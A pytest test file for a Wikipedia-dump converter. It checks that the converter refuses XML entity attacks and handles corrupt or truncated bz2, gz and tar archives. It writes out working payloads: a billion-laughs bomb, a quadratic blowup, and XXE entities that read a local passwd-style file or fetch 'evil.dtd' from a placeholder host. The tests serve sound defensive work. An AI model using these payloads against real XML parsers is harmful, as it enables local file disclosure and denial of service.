"""Hostile and damaged dumps: entity attacks, huge pages, corrupt and truncated archives.

Every hostile dump is a real corpus dump with the attack spliced in, written to
``tmp_path`` plain, as ``.bz2`` and as ``.gz``; the API and the CLI must refuse it in
one line naming the file (exit code 3), keep everything converted before it intact and
accounted, and never let an entity's content (a local file, a bomb) into a record.
"""

from __future__ import annotations

import bz2
import gzip
import json
import re
import shutil
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from infobox_tools.batch import convert
from infobox_tools.cli import main
from infobox_tools.errors import EXIT_INPUT, EXIT_PAGES_FAILED, InputError
from infobox_tools.sources import open_sources
from infobox_tools.sources.xmldump import XmlDumpSource
from test_batch import fake_parse, lines
from test_sources import ENWIKI, MULTI

TINY = "dumps/dumpster-dive/tinywiki-latest-pages-articles.xml"
SECRET = "infobox-tools-secret-line-3f9a"  # the content of the local file an entity points at
_PAGE_TEXT = re.compile(r"(<text[^>]*>)")

COMPRESS: dict[str, Callable[[bytes], bytes]] = {
    ".xml": lambda data: data, ".xml.bz2": bz2.compress, ".xml.gz": gzip.compress}


def billion_laughs() -> tuple[str, str]:
    """Ten levels of ten references: 10^9 copies of "lol" from under 1 KB of DTD."""
    decls = ['<!ENTITY lol0 "lol">']
    decls += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return "".join(decls), "&lol9;"


def quadratic() -> tuple[str, str]:
    """One 50 KB entity referenced 50 000 times (2.5 GB from a ~300 KB file)."""
    return f'<!ENTITY big "{"x" * 50_000}">', "&big;" * 50_000


def external_file(secret: Path) -> tuple[str, str]:
    return f'<!ENTITY xxe SYSTEM "file://{secret}">', "before &xxe; after"


def parameter_entity(secret: Path) -> tuple[str, str]:
    return f'<!ENTITY % ext SYSTEM "file://{secret}"> %ext;', "plain text"


def network_entity(_: Path) -> tuple[str, str]:
    return '<!ENTITY net SYSTEM "http://192.0.2.1/evil.dtd">', "a &net; b"  # TEST-NET: never routed


def hostile(corpus: Path, decls: str, payload: str) -> bytes:
    """The tiny real dump with a DOCTYPE declaring ``decls`` and ``payload`` in its 3rd page."""
    xml = (corpus / TINY).read_text(encoding="utf-8")
    parts = _PAGE_TEXT.split(xml, maxsplit=3)  # [head, <text>, page1, <text>, page2, ...]
    assert len(parts) == 7
    xml = "".join(parts[:6]) + payload + parts[6]
    return (f'<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE mediawiki [{decls}]>\n' + xml).encode()


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "passwd"
    path.write_text(f"root:x:0:0:{SECRET}:/root:/bin/sh\n")
    return path


ATTACKS: dict[str, Callable[[Path], tuple[str, str]]] = {
    "billion-laughs": lambda _: billion_laughs(), "quadratic": lambda _: quadratic(),
    "external-file": external_file, "parameter-entity": parameter_entity, "network": network_entity}


@pytest.mark.parametrize("suffix", list(COMPRESS))
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_entity_attacks_are_refused_quickly_and_earlier_inputs_stay(corpus: Path, tmp_path: Path, secret: Path,
                                                                    attack: str, suffix: str) -> None:
    dump = tmp_path / f"hostile{suffix}"
    dump.write_bytes(COMPRESS[suffix](hostile(corpus, *ATTACKS[attack](secret))))
    good = corpus / "dumps/gensim/testcorpus.xml.bz2"
    out = tmp_path / "out"
    started = time.perf_counter()
    with pytest.raises(InputError) as err:
        convert([good, dump], out, jobs=1, parse=fake_parse, progress=False)
    assert time.perf_counter() - started < 5
    message = str(err.value)
    assert message.startswith(f"{dump}: ") and "\n" not in message
    assert "entit" in message and "refused" in message
    summary = json.loads((out / "summary.json").read_text())
    ref = convert([good], tmp_path / "ref", jobs=1, parse=fake_parse, progress=False)
    assert summary["status"] == "error" and summary["error"] == message
    assert (summary["pages"], summary["written"], summary["failed"]) == (ref.pages, ref.written, ref.failed)
    assert (out / "records.jsonl").read_bytes() == (tmp_path / "ref" / "records.jsonl").read_bytes()
    for path in out.iterdir():
        assert SECRET not in path.read_text(encoding="utf-8") and "lollol" not in path.read_text(encoding="utf-8")


@pytest.mark.parametrize("attack", ["billion-laughs", "quadratic", "external-file"])
def test_cli_refuses_entity_attacks_with_exit_3_and_one_line(corpus: Path, tmp_path: Path, secret: Path,
                                                             attack: str) -> None:
    dump = tmp_path / "hostile.xml.bz2"
    dump.write_bytes(bz2.compress(hostile(corpus, *ATTACKS[attack](secret))))
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["batch", str(dump), "-o", str(out), "-j", "1", "-q"])
    assert result.exit_code == EXIT_INPUT, result.output
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"infobox-tools: error: {dump}: ") and "refused" in line
    summary = json.loads((out / "summary.json").read_text())
    assert summary["status"] == "error" and summary["pages"] == 0 and summary["error"] in line
    assert (out / "errors.jsonl").read_text() == ""
    assert SECRET not in result.output


def test_libxml2s_amplification_guard_is_reported_as_a_refused_bomb() -> None:
    """The second line of defence (should a bomb ever get past the DOCTYPE check): the
    error libxml2 raises is named for what it is, not as a corrupt file."""
    from lxml import etree

    from infobox_tools.sources.xmldump import read_error

    decls, payload = billion_laughs()
    started = time.perf_counter()
    with pytest.raises(etree.XMLSyntaxError) as err:
        etree.fromstring(f"<!DOCTYPE m [{decls}]><m>{payload}</m>".encode(),
                         etree.XMLParser(resolve_entities=True, huge_tree=True))
    assert time.perf_counter() - started < 1
    assert read_error("dump.xml", err.value).message == \
        "dump.xml: entity expansion bomb refused (entities expand far beyond the input's size)"


def test_an_external_dtd_is_neither_fetched_nor_leaked(corpus: Path, tmp_path: Path, secret: Path) -> None:
    """``<!DOCTYPE mediawiki SYSTEM "file:///...">`` declares nothing itself: the DTD is never
    loaded, the pages convert as if it were absent."""
    xml = (corpus / TINY).read_bytes()
    dump = tmp_path / "dtd.xml"
    dump.write_bytes(f'<!DOCTYPE mediawiki SYSTEM "file://{secret}">\n'.encode() + xml)
    plain = [(d.title, d.text) for d in XmlDumpSource(str(corpus / TINY), namespaces=None,
                                                       skip_redirects=False).documents()]
    with_dtd = [(d.title, d.text) for d in XmlDumpSource(str(dump), namespaces=None,
                                                          skip_redirects=False).documents()]
    assert with_dtd == plain and len(plain) == 8
    assert all(SECRET not in (text or "") for _, text in with_dtd)


@pytest.mark.parametrize("suffix", list(COMPRESS))
def test_a_page_over_10_mb_reads_whole(corpus: Path, tmp_path: Path, suffix: str) -> None:
    """libxml2 stops at 10 MB per text node without ``huge_tree``; dumps hold bigger pages."""
    xml = (corpus / TINY).read_text(encoding="utf-8")
    parts = _PAGE_TEXT.split(xml, maxsplit=1)
    big = "{{Infobox settlement\n| name = Big\n}}\n" + "Lorem ipsum dolor sit amet. " * 400_000  # 11.2 MB
    dump = tmp_path / f"huge{suffix}"
    dump.write_bytes(COMPRESS[suffix]("".join(parts[:2]).encode() + big.encode() + parts[2].encode()))
    docs = list(XmlDumpSource(str(dump), namespaces=None, skip_redirects=False).documents())
    text = docs[0].text
    assert len(docs) == 8 and text is not None and text.startswith(big) and len(big) > 10 << 20
    assert text[len(big):] == parts[2].split("</text>", 1)[0]  # the page's own text follows whole
    out = tmp_path / "out"
    summary = convert([dump], out, jobs=1, parse=fake_parse, progress=False, namespaces=None)
    first = lines(out / "records.jsonl")[0]
    assert first["infoboxes"][0]["fields"][0]["raw"] == str(len(text))
    assert summary.pages == 8


def flipped(data: bytes, at: float = 0.5, count: int = 16) -> bytes:
    cut = int(len(data) * at)
    return data[:cut] + bytes(b ^ 0xFF for b in data[cut:cut + count]) + data[cut + count:]


def gz_of(corpus: Path) -> bytes:
    return gzip.compress(bz2.decompress((corpus / ENWIKI).read_bytes()))


@pytest.mark.parametrize("damage", ["bz2-flipped", "gz-truncated", "gz-flipped"])
def test_damaged_archives_stop_with_a_clear_error_and_keep_whole_pages(corpus: Path, tmp_path: Path,
                                                                       damage: str) -> None:
    """The truncated .bz2 is covered in test_batch; here flipped bytes and .gz."""
    full = tmp_path / "full"
    convert([corpus / ENWIKI], full, jobs=1, parse=fake_parse, progress=False)
    kind, how = damage.split("-")
    data = (corpus / ENWIKI).read_bytes() if kind == "bz2" else gz_of(corpus)
    damaged = tmp_path / f"damaged.xml.{kind}"
    damaged.write_bytes(data[: len(data) * 6 // 10] if how == "truncated" else flipped(data))
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["batch", str(damaged), "-o", str(out), "-j", "2", "-q"])
    assert result.exit_code == EXIT_INPUT
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"infobox-tools: error: {damaged}: ")
    assert ("truncated" if how == "truncated" else "corrupt") in line
    summary = json.loads((out / "summary.json").read_text())
    assert summary["status"] == "error" and summary["error"] in line
    assert summary["written"] + summary["skipped"] + summary["failed"] == summary["pages"] > 50
    # Records are the real parser's: compare titles and bytes with a clean run of the same pages.
    kept = (out / "records.jsonl").read_bytes().replace(str(damaged).encode(), str(corpus / ENWIKI).encode())
    clean = convert([corpus / ENWIKI], tmp_path / "clean", jobs=1, progress=False)
    assert clean.pages == 206
    assert (tmp_path / "clean" / "records.jsonl").read_bytes().startswith(kept)
    assert len(kept.splitlines()) == summary["written"]


@pytest.fixture
def multistream_copy(corpus: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "ms"
    folder.mkdir()
    for p in (corpus / "dumps/multistream").iterdir():
        shutil.copy(p, folder / p.name)
    return folder / MULTI.rsplit("/", 1)[1]


def index_of(dump: Path) -> list[tuple[int, str]]:
    index = dump.with_name(dump.name.replace(".xml.bz2", "-index.txt.bz2"))
    rows = [line.split(":", 2) for line in bz2.decompress(index.read_bytes()).decode().splitlines()]
    return [(int(offset), title) for offset, _, title in rows]


@pytest.mark.parametrize("damage", ["bz2", "xml"])
def test_a_corrupt_middle_stream_loses_only_its_own_pages_by_name(corpus: Path, tmp_path: Path,
                                                                  multistream_copy: Path, damage: str) -> None:
    """Decision: streams are independent, so a corrupt one fails its pages (named by the
    index, with the reason) and the others are converted; exit code 1, not 3."""
    dump = multistream_copy
    ref = convert([dump], tmp_path / "ref", jobs=2, progress=False, namespaces=None)
    entries = index_of(dump)
    offsets = sorted({o for o, _ in entries})
    assert len(offsets) == 3
    data = dump.read_bytes()
    if damage == "bz2":
        middle = (offsets[1] + offsets[2]) // 2
        dump.write_bytes(data[:middle] + bytes(b ^ 0xFF for b in data[middle:middle + 16]) + data[middle + 16:])
    else:  # valid bz2 whose XML is broken: the stream cut in half, recompressed, index moved
        xml = bz2.decompress(data[offsets[1]:offsets[2]])
        stream = bz2.compress(xml[: len(xml) // 2])
        dump.write_bytes(data[:offsets[1]] + stream + data[offsets[2]:])
        moved = offsets[1] + len(stream)
        index = dump.with_name(dump.name.replace(".xml.bz2", "-index.txt.bz2"))
        text = bz2.decompress(index.read_bytes()).decode().replace(f"\n{offsets[2]}:", f"\n{moved}:")
        index.write_bytes(bz2.compress(text.encode()))
    lost = [title for offset, title in entries if offset == offsets[1]]
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["batch", str(dump), "-o", str(out), "-j", "2", "-q", "--namespaces", "all"])
    assert result.exit_code == EXIT_PAGES_FAILED, result.output
    summary = json.loads((out / "summary.json").read_text())
    assert summary["status"] == "complete" and summary["pages"] == ref.pages == len(entries)
    assert summary["reasons"]["failed"]["corrupt stream"] == len(lost) == 100
    failed = [e for e in lines(out / "errors.jsonl") if f"stream at byte {offsets[1]}" in e["reason"]]
    assert [e["title"] for e in failed] == lost
    assert all(e["outcome"] == "failed" and e["file"] == str(dump) for e in failed)
    # The pages of the other streams are exactly those of the undamaged run, in order.
    ref_titles = [r["title"] for r in lines(tmp_path / "ref" / "records.jsonl") if r["title"] not in set(lost)]
    records = lines(out / "records.jsonl")
    assert [r["title"] for r in records] == ref_titles and len(records) == summary["written"]
    assert any(r["infoboxes"] for r in records)  # real records from the real parser


@pytest.mark.parametrize("damage", ["none", "flipped", "truncated", "trailing garbage", "second stream cut"])
def test_the_fast_bzip2_decoder_gives_the_bz2_modules_bytes_and_errors(multistream_copy: Path, damage: str,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """indexed_bzip2 decodes the streams (faster); on anything but clean bz2 the bz2 module
    decodes again, so a damaged stream fails with the same message either way."""
    from infobox_tools.sources import multistream

    offsets = sorted({o for o, _ in index_of(multistream_copy)})
    data = multistream_copy.read_bytes()
    stream = data[offsets[1]:offsets[2]]
    damaged = {"none": stream, "flipped": stream[:999] + bytes([stream[999] ^ 0x10]) + stream[1000:],
               "truncated": stream[:-7], "trailing garbage": stream + b"not bz2",
               "second stream cut": stream + stream[:len(stream) // 2]}[damage]
    path = multistream_copy.with_name("one.bz2")
    path.write_bytes(damaged)

    def outcome() -> bytes | str:
        try:
            return multistream.decompress_range(str(path), 0, len(damaged))
        except multistream.CorruptStream as exc:
            return exc.message

    assert multistream.indexed_bzip2 is not None
    fast = outcome()
    monkeypatch.setattr(multistream, "indexed_bzip2", None)
    assert outcome() == fast
    if damage == "none":
        assert fast == bz2.decompress(stream)
    else:
        assert isinstance(fast, str) and "corrupt bz2 stream at byte 0" in fast


def test_a_corrupt_stream_in_a_namespace_filtered_run_skips_what_a_clean_run_skips(
        corpus: Path, tmp_path: Path, multistream_copy: Path) -> None:
    dump = multistream_copy
    ref = convert([dump], tmp_path / "ref", jobs=1, parse=fake_parse, progress=False)
    offsets = sorted({o for o, _ in index_of(dump)})
    data = bytearray(dump.read_bytes())
    data[offsets[1] + 5000] ^= 0xFF
    dump.write_bytes(bytes(data))
    summary = convert([dump], tmp_path / "out", jobs=1, parse=fake_parse, progress=False)
    assert summary.pages == ref.pages and summary.reasons["skipped"] == ref.reasons["skipped"]
    assert summary.written + summary.failed == ref.written + ref.failed
    assert 0 < summary.reasons["failed"]["corrupt stream"] <= 100


def test_sources_refuse_before_reading_any_page(corpus: Path, tmp_path: Path, secret: Path) -> None:
    dump = tmp_path / "x.xml.gz"
    dump.write_bytes(gzip.compress(hostile(corpus, *external_file(secret))))
    (source,) = open_sources([dump])
    docs: list[Any] = []
    with pytest.raises(InputError, match="declares XML entities"):
        docs.extend(source.documents())  # type: ignore[union-attr]
    assert docs == []


def jsonl_of(corpus: Path) -> bytes:
    """The sample dump's pages as plain JSON Lines articles (real titles and wikitext)."""
    docs = XmlDumpSource(str(corpus / ENWIKI), namespaces=None, skip_redirects=False).documents()
    return b"".join(json.dumps({"title": d.title, "text": d.text or "", "form": "wikitext"}).encode() + b"\n"
                    for d in docs)


def tar_of(data: bytes) -> bytes:
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for i in range(3):
            info = tarfile.TarInfo(f"part{i}.ndjson")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.mark.parametrize(("name", "pack", "how", "says"), [
    ("cut.jsonl.gz", gzip.compress, "truncated", "truncated"),
    ("flip.jsonl.gz", gzip.compress, "flipped", "CRC check failed"),  # gzip checks only at the end
    ("flip.jsonl.bz2", bz2.compress, "flipped", "corrupt compressed data"),
    ("cut.tar.gz", tar_of, "truncated", "not a readable tar archive"),
])
def test_damaged_json_lines_archives_stop_with_a_clear_error(corpus: Path, tmp_path: Path, name: str,
                                                             pack: Callable[[bytes], bytes], how: str,
                                                             says: str) -> None:
    data = pack(jsonl_of(corpus))
    damaged = tmp_path / name
    damaged.write_bytes(data[: len(data) // 2] if how == "truncated" else flipped(data))
    out = tmp_path / "out"
    with pytest.raises(InputError) as err:
        convert([damaged], out, jobs=1, parse=fake_parse, progress=False)
    assert str(err.value).startswith(f"{damaged}: ") and says in str(err.value) and "\n" not in str(err.value)
    summary = json.loads((out / "summary.json").read_text())
    assert summary["status"] == "error" and summary["error"] == str(err.value)
    assert summary["written"] + summary["skipped"] + summary["failed"] == summary["pages"]
    assert len(lines(out / "records.jsonl")) == summary["written"]
